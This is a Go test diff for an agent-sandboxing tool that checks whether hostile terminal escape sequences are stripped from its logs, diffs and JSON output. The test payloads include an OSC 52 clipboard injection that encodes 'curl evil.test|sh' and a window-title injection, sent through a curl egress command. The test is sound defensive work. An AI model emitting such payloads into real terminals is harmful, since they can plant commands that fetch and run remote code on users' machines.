@@ -44,10 +44,11 @@ const (
 var sgr = regexp.MustCompile("\x1b\\[[0-9;:]*m")
 
 // noEscapes fails unless out is free of every escape the test planted: no
-// ESC or BEL byte, no C1 control and none of the payloads.
+// ESC or BEL byte, no C1 control. (The payloads may show as text where the
+// agent wrote them as text, as in a Bash command line.)
 func noEscapes(t *testing.T, what, out string) {
 	t.Helper()
-	for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u009d", "52;c;", "0;pwned"} {
+	for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u009d", "\xc2\x9b"} {
 		if strings.Contains(out, bad) {
 			t.Errorf("%s carries %q:\n%q", what, bad, tail(out, 15))
 		}
@@ -284,7 +285,7 @@ func TestHostileEscapes(t *testing.T) {
 			"command":     fmt.Sprintf(`printf 'line one %s\n' > evil.txt && git add evil.txt && git -c user.name=a -c user.email=a@b commit -qm "$(printf 'subject %s end')" && git log --format=%%s -1 | od -c | head -3`, esc, esc),
 			"description": "commit"}},
 		{Tool: "Bash", Input: map[string]any{
-			"command":     `curl -s -m 10 -x http://127.0.0.1:3128 --noproxy '' -o /dev/null -w '%{http_code}\n' 'http://escapes.test/a%1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=%07/b%1b]0;pwned%07/c%1b[2K/d%c2%9b1A'`,
+			"command":     `curl -g -s -m 10 -x http://127.0.0.1:3128 --noproxy '' -o /dev/null -w '%{http_code}\n' 'http://escapes.test/a%1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=%07/b%1b]0;pwned%07/c%1b[2K/d%c2%9b1A'`,
 			"description": "egress"}},
 		{Tool: "Bash", Input: map[string]any{
 			"command":     fmt.Sprintf(`printf 'fatal: %s\n' >> /airlock/log/agent.stderr && %s`, esc, killAgent),
@@ -310,8 +311,9 @@ func TestHostileEscapes(t *testing.T) {
 	})
 	t.Run("logs", func(t *testing.T) {
 		res := e.ok("logs", "-v", "2", id)
-		if !strings.Contains(res.stdout, "Hello") || !strings.Contains(res.stdout, "world") {
-			t.Errorf("logs lost the agent's text:\n%s", res.stdout)
+		// The sequences go whole, payloads included: no "]0;pwned" debris.
+		if !strings.Contains(res.stdout, "\nHello  world\n") {
+			t.Errorf("logs does not show the agent's text without its escapes:\n%s", res.stdout)
 		}
 		noEscapes(t, "logs", res.stdout+res.stderr)
 	})
@@ -342,24 +344,39 @@ func TestHostileEscapes(t *testing.T) {
 		}
 	})
 	t.Run("diff on a terminal", func(t *testing.T) {
-		// script(1) gives airlock a pseudo-terminal as stdout.
-		cmd := exec.Command("script", "-qec", shared.bin+" diff "+id, "/dev/null")
-		cmd.Dir = e.repo
-		cmd.Env = append(e.environ(), "TERM=xterm")
-		out, err := cmd.Output()
-		if err != nil {
-			t.Fatalf("script: %v\n%s", err, out)
-		}
-		if !strings.Contains(string(out), "line one") {
+		out := e.onTerminal("diff", id)
+		if !strings.Contains(out, "line one") {
 			t.Fatalf("diff on a terminal lost the change:\n%q", out)
 		}
-		if !strings.Contains(string(out), "\x1b[32m") {
+		if !strings.Contains(out, "\x1b[32m") {
 			t.Errorf("diff on a terminal lost git's colour:\n%q", out)
 		}
 		// Colour (SGR) may stay; nothing else may.
-		stripped := sgr.ReplaceAllString(string(out), "")
-		noEscapes(t, "diff on a terminal", stripped)
+		noEscapes(t, "diff on a terminal", sgr.ReplaceAllString(out, ""))
 	})
+	t.Run("raw output on a terminal", func(t *testing.T) {
+		for _, args := range [][]string{{"logs", "--raw", id}, {"egress", "--json", id}} {
+			out := e.onTerminal(args...)
+			if !strings.Contains(out, "{") {
+				t.Errorf("airlock %s on a terminal printed no JSON:\n%q", strings.Join(args, " "), out)
+			}
+			noEscapes(t, strings.Join(args, " ")+" on a terminal", out)
+		}
+	})
+}
+
+// onTerminal runs airlock with a pseudo-terminal as its standard output
+// (script(1)) and returns what the terminal got.
+func (e *env) onTerminal(args ...string) string {
+	e.t.Helper()
+	cmd := exec.Command("script", "-qec", shared.bin+" "+strings.Join(args, " "), "/dev/null")
+	cmd.Dir = e.repo
+	cmd.Env = append(e.environ(), "TERM=xterm")
+	out, err := cmd.Output()
+	if err != nil {
+		e.t.Fatalf("script airlock %s: %v\n%s", strings.Join(args, " "), err, out)
+	}
+	return string(out)
 }
 
 // waitExited waits for the run's agent container to end.
